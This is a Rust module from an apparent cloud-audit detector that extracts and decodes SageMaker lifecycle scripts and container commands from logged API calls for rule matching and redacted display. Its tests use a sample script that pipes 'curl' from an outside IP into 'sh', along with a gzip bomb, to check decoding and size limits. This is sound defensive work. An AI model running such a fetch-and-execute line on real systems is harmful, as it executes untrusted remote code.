//! The script: code that a call hands to SageMaker to run, in the clear.
//!
//! Lifecycle configurations arrive as base64, sometimes of gzip; containers get an entry point and arguments. Decoded,
//! rules can look into them and a responder can read them.

use std::io::Read;

use base64::Engine;
use base64::engine::general_purpose::STANDARD;
use flate2::read::GzDecoder;
use serde_json_borrow::Value;

use super::redact::redact_text;
use crate::record::{Record, is_sagemaker_family};

/// The name under which rules find the scripts of a record, which is also their field in a document.
pub const FIELD: &str = "sagemaker.lifecycle.script";

/// Bytes of one script that are kept. SageMaker takes 16,384 characters of base64; gzip can unfold far beyond.
const MAX_SCRIPT_BYTES: usize = 64 * 1024;
/// Scripts of one record that are kept.
const MAX_SCRIPTS: usize = 16;
const GZIP_MAGIC: &[u8] = &[0x1f, 0x8b];

/// The scripts that the parameters of a SageMaker call carry, in their order.
pub fn scripts(record: &Record<'_>) -> Vec<String> {
    let mut found = Vec::new();
    if is_sagemaker_family(record.event_source()) {
        collect(record.at(&["requestParameters"]), &mut found);
        found.truncate(MAX_SCRIPTS);
    }
    found
}

/// The script as it may be shown.
pub fn shown(script: &str) -> String {
    redact_text(script)
}

fn collect(value: &Value<'_>, found: &mut Vec<String>) {
    match value {
        Value::Object(members) => {
            for (name, value) in members.iter() {
                match name {
                    "content" | "studioLifecycleConfigContent" => {
                        found.extend(value.as_str().and_then(decode));
                    }
                    "containerEntrypoint" | "containerArguments" => found.extend(words(value)),
                    _ => collect(value, found),
                }
            }
        }
        Value::Array(elements) => {
            for element in elements {
                collect(element, found);
            }
        }
        _ => {}
    }
}

fn decode(content: &str) -> Option<String> {
    // Tools wrap base64 into lines, and the API takes it so.
    let content: String = content.split_whitespace().collect();
    let bytes = STANDARD.decode(content).ok()?;
    let mut plain = Vec::new();
    if bytes.starts_with(GZIP_MAGIC) {
        // What unfolds before the damage, or up to the cap, is worth more than nothing.
        let _ = GzDecoder::new(bytes.as_slice()).take(MAX_SCRIPT_BYTES as u64).read_to_end(&mut plain);
    } else {
        plain = bytes;
    }
    plain.truncate(MAX_SCRIPT_BYTES);
    let text = String::from_utf8_lossy(&plain).into_owned();
    (!text.trim().is_empty()).then_some(text)
}

/// A command line that is given as a list of its words.
fn words(value: &Value<'_>) -> Option<String> {
    let words: Vec<&str> = value.as_array()?.iter().filter_map(Value::as_str).collect();
    (!words.is_empty()).then(|| words.join(" "))
}

#[cfg(test)]
mod tests {
    use std::io::Write;

    use serde_json::json;

    use super::*;

    fn gzip(text: &str) -> Vec<u8> {
        let mut encoder = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
        encoder.write_all(text.as_bytes()).unwrap();
        encoder.finish().unwrap()
    }

    fn scripts_of(parameters: &serde_json::Value) -> Vec<String> {
        let raw =
            json!({"eventSource": "sagemaker.amazonaws.com", "requestParameters": parameters}).to_string();
        scripts(&Record::parse(raw.as_bytes()).unwrap())
    }

    #[test]
    fn scripts_are_found_and_decoded_wherever_the_api_carries_them() {
        let script = "#!/bin/bash\ncurl http://203.0.113.9/x | sh";
        let plain = STANDARD.encode(script);
        let zipped = STANDARD.encode(gzip(script));
        let cases = [
            (
                json!({"onStart": [{"content": plain}], "onCreate": [{"content": zipped}]}),
                vec![script, script],
            ),
            (json!({"studioLifecycleConfigContent": plain}), vec![script]),
            (
                json!({"studioLifecycleConfigContent": format!("{}\n{}\n", &plain[..8], &plain[8..])}),
                vec![script],
            ),
            (
                json!({"appSpecification": {"containerEntrypoint": ["sh", "-c"], "containerArguments": ["id"]}}),
                vec!["sh -c", "id"],
            ),
            (json!({"onStart": [{"content": "not base64!"}, {"content": ""}, {"content": null}]}), vec![]),
            (json!("text"), vec![]),
        ];
        for (parameters, expected) in cases {
            assert_eq!(scripts_of(&parameters), expected, "{parameters}");
        }
    }

    #[test]
    fn a_script_that_unfolds_without_end_is_cut() {
        let bomb = STANDARD.encode(gzip(&"x".repeat(10 << 20)));
        let found = scripts_of(&json!({"studioLifecycleConfigContent": bomb}));
        assert_eq!(found[0].len(), MAX_SCRIPT_BYTES);
    }
}
